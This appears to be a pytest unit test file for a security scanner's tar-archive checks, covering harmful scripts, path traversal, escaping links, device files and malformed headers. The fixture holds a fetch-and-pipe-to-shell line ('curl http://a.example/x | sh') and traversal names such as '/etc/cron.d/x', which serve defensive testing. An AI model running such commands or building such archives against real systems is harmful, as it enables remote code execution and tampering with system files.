"""Tar archives of every kind."""

import io
import tarfile

import pytest

from alcaide.instruments.scan.model import Level
from tests.unit.instruments.scan.looking import all_places, found, is_quiet, levels, look

HARMFUL = b"#!/bin/sh\ncurl http://a.example/x | sh\n"
KINDS = [tarfile.USTAR_FORMAT, tarfile.GNU_FORMAT, tarfile.PAX_FORMAT]


def a_tar(*members, kind=tarfile.PAX_FORMAT, mode="w"):
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode=mode, format=kind) as archive:
        for name, data, *changes in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            for key, value in (changes[0] if changes else {}).items():
                setattr(info, key, value)
            archive.addfile(info, io.BytesIO(data))
    return held.getvalue()


@pytest.mark.parametrize("kind", KINDS)
def test_members_of_every_kind_are_looked_at(kind):
    name = "n" * 90 + "/run.sh"

    artifact = look(a_tar((name, HARMFUL), kind=kind), "model.tar")

    assert "script/harmful" in found(artifact)
    assert name in all_places(artifact)


@pytest.mark.parametrize("kind", KINDS)
def test_an_ordinary_tar_is_quiet(kind):
    data = a_tar(("./README.md", b"# hello"), ("weights/config.json", b'{"a": 1}'), kind=kind)

    assert is_quiet(look(data, "model.tar"))


@pytest.mark.parametrize("mode", ["w:gz", "w:bz2", "w:xz"])
def test_a_packed_tar_is_looked_at_through_its_packing(mode):
    artifact = look(a_tar(("run.sh", HARMFUL), mode=mode), "model.tgz")

    assert [f.place for f in artifact.findings if f.rule == "script/harmful"] == ["model.tar/run.sh"]


@pytest.mark.parametrize("name", ["../up", "/etc/cron.d/x", "a/../../b"])
def test_a_name_that_leads_outside_is_critical(name):
    assert levels(look(a_tar((name, b"hi")), "a.tar"), "archive/traversal") == {Level.CRITICAL}


def test_links_that_lead_outside_and_writing_through_them_are_critical():
    link = {"type": tarfile.SYMTYPE, "linkname": "../../etc"}

    artifact = look(a_tar(("etc", b"", link), ("etc/cron", b"x")), "a.tar")

    assert levels(artifact, "archive/link-outside") == {Level.CRITICAL}
    assert levels(artifact, "archive/through-link") == {Level.CRITICAL}


def test_hard_links_count_from_the_top_of_the_archive():
    def linked(target):
        return look(a_tar(("a/b/link", b"", {"type": tarfile.LNKTYPE, "linkname": target})), "a.tar")

    assert "archive/link-outside" not in found(linked("a/file"))
    assert "archive/link-outside" in found(linked("../file"))


def test_a_link_inside_is_quiet():
    link = {"type": tarfile.SYMTYPE, "linkname": "../blobs/0123"}

    assert is_quiet(look(a_tar(("snapshots/model", b"", link)), "a.tar"))


@pytest.mark.parametrize("kind", [tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE])
def test_devices_and_pipes_are_high(kind):
    assert levels(look(a_tar(("dev", b"", {"type": kind})), "a.tar"), "archive/device") == {Level.HIGH}


def test_what_follows_the_end_is_told_and_looked_at():
    artifact = look(a_tar(("a.txt", b"hi")) + HARMFUL.ljust(512, b"\n"), "a.tar")

    assert {"archive/bytes-beside", "script/harmful"} <= found(artifact)


def test_a_header_whose_checksum_is_wrong_is_told():
    data = bytearray(a_tar(("a.txt", b"hi"), ("b.txt", b"ho"), kind=tarfile.USTAR_FORMAT))
    data[1024] ^= 0x20

    assert "scan/malformed" in found(look(bytes(data), "a.tar"))


def test_a_truncated_member_is_looked_at_as_far_as_it_goes():
    data = a_tar(("run.sh", HARMFUL + b"#" * 4000), kind=tarfile.USTAR_FORMAT)

    assert {"script/harmful", "scan/truncated"} <= found(look(data[:2000], "a.tar"))


def test_sizes_that_two_headers_state_differently_are_told():
    data = bytearray(a_tar(("a.txt", b"hello", {"pax_headers": {"size": "3"}})))

    assert "archive/two-stories" in found(look(bytes(data), "a.tar"))


def test_a_file_with_holes_is_put_together():
    # GNU 1.0: the map stands before the bytes: one stretch of 40 bytes at 512, then nothing up to 1,024.
    body = b"1\n512\n40\n".ljust(512, b"\0") + HARMFUL.ljust(40, b"\n")
    headers = {
        "GNU.sparse.major": "1",
        "GNU.sparse.minor": "0",
        "GNU.sparse.name": "hole.bin",
        "GNU.sparse.realsize": "1024",
    }

    artifact = look(a_tar(("GNUSparseFile.0/hole.bin", body, {"pax_headers": headers})), "a.tar")

    assert "hole.bin" in all_places(artifact)
    assert next(node for node in artifact.node.walk() if node.name == "hole.bin").size == 1024
